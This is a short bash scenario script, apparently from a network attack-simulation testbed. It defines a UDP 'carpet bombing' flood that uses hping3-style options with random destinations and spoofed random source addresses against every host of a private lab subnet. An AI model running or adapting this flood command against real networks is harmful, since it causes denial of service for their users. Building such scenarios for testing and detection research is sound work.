# shellcheck shell=bash
# about: UDP to all hosts of a network, a little to each (hping3)
# type: attack
# kind: carpet_bombing udp_flood
# target: 10.99.2.0/24
# source: attacker
# tools: hping3
play() {
	flood attacker 10.99.2.x -2 -p 9999 -d 200 -I eth0 --rand-dest --rand-source
}
